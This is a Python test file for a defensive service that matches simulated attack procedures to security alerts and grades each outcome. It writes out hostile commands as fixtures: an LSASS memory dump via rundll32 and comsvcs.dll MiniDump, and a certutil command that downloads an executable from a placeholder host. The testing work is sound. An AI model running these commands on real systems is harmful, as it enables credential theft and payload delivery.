"""The correlation rules on plain values: which alerts match a procedure, why, and the outcome that follows."""

from datetime import UTC, datetime, timedelta

import pytest

from defender.services import outcomes as rules

START = datetime(2026, 12, 1, 10, 0, tzinfo=UTC)
SKEW = timedelta(minutes=5)
WINDOW = timedelta(minutes=60)
LSASS = r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Temp\lsass.dmp full"


def procedure(technique="T1003.001", command=LSASS, started=START, minutes=1):
    return rules.ProcedureFacts(technique, command, started, started + timedelta(minutes=minutes))


def alert(pk=1, techniques=(), evidence=(), at=START + timedelta(minutes=2), until=None):
    return rules.AlertFacts(pk, tuple(techniques), tuple(evidence), first_event=at, last_event=until or at)


@pytest.mark.parametrize(
    ("technique", "alert_techniques", "reason"),
    [
        ("T1003.001", ["T1003.001"], "technique T1003.001 is among the alert's"),
        ("T1003.001", ["T1003"], "the alert names T1003, the parent of T1003.001"),
        ("T1003", ["T1003.002"], "the alert names T1003.002, a sub-technique of T1003"),
    ],
)
def test_an_alert_matches_on_the_technique_its_parent_or_a_sub_technique(technique, alert_techniques, reason):
    found = rules.match(procedure(technique, command=""), alert(techniques=alert_techniques))

    assert found.rules == ("technique",)
    assert found.reason == reason


def test_a_sibling_sub_technique_is_no_match():
    assert rules.match(procedure("T1003.001", command=""), alert(techniques=["T1003.002"])) is None


@pytest.mark.parametrize(
    "evidence_line",
    [
        r'"RUNDLL32.EXE" C:/Windows/System32/comsvcs.dll,  MiniDump 624 C:\Temp\lsass.dmp full',
        r"cmd.exe /c rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Temp\lsass.dmp full",
    ],
)
def test_the_command_matches_whatever_the_case_quoting_separators_or_spacing(evidence_line):
    found = rules.match(procedure(technique="T1059"), alert(evidence=[{"command_line": evidence_line}]))

    assert "command" in found.rules
    assert found.reason == "a process of its evidence ran the procedure's command"


def test_a_short_command_inside_another_line_is_no_match():
    assert rules.match(procedure("T1033", "whoami"), alert(evidence=[{"command_line": "cmd /c whoami /all"}])) is None


def test_a_file_the_command_names_matches_the_evidence_file():
    found = rules.match(
        procedure("T1105", r"certutil -urlcache -f http://x/a.exe C:\Temp\payload.exe"),
        alert(evidence=[{"file_name": "Payload.exe"}]),
    )

    assert found.rules == ("file",)
    assert "payload.exe" in found.reason


def test_a_hash_the_command_names_matches_the_evidence_hash():
    digest = "a" * 64
    found = rules.match(
        procedure("T1204", f"run-sample --sha256 {digest}"), alert(evidence=[{"sha256": digest.upper()}])
    )

    assert found.rules == ("hash",)


def test_only_alerts_whose_activity_overlaps_start_minus_skew_to_stop_plus_window_are_candidates():
    run = procedure(minutes=1)
    inside_early = alert(1, ["T1003.001"], at=START - timedelta(minutes=4))
    inside_late = alert(2, ["T1003.001"], at=START + timedelta(minutes=60))
    too_early = alert(3, ["T1003.001"], at=START - timedelta(minutes=6))
    too_late = alert(4, ["T1003.001"], at=START + timedelta(minutes=62))
    spanning = alert(5, ["T1003.001"], at=START - timedelta(hours=3), until=START + timedelta(hours=3))

    found = rules.matches(run, [inside_early, inside_late, too_early, too_late, spanning], SKEW, WINDOW)

    assert [item.alert_pk for item in found] == [1, 2, 5]


@pytest.mark.parametrize(
    ("statuses", "prevented"),
    [
        ({"detection_status": "Blocked"}, True),
        ({"detection_status": "Prevented"}, True),
        ({"remediation_status": "remediated"}, True),
        ({"detection_status": "Detected"}, False),
        ({}, False),
    ],
)
def test_a_matching_alert_that_says_blocked_or_prevented_is_prevented(statuses, prevented):
    found = rules.match(procedure(), alert(techniques=["T1003.001"], evidence=[statuses]))

    assert found.prevented is prevented


def test_the_outcome_takes_the_best_in_vectrs_priority():
    blocked = rules.MatchFound(1, ("technique",), "", True)
    raised = rules.MatchFound(2, ("technique",), "", False)

    assert rules.outcome([raised, blocked], telemetry_seen=True, window_closed=True) == "prevented"
    assert rules.outcome([raised], telemetry_seen=True, window_closed=True) == "alerted"
    assert rules.outcome([], telemetry_seen=True, window_closed=False) == "detected"
    assert rules.outcome([], telemetry_seen=False, window_closed=True) == "missed"
    assert rules.outcome([], telemetry_seen=False, window_closed=False) == "pending"


def test_a_closed_window_with_an_integration_unheard_stays_pending_not_missed():
    assert rules.outcome([], telemetry_seen=False, window_closed=True, unanswered=True) == "pending"
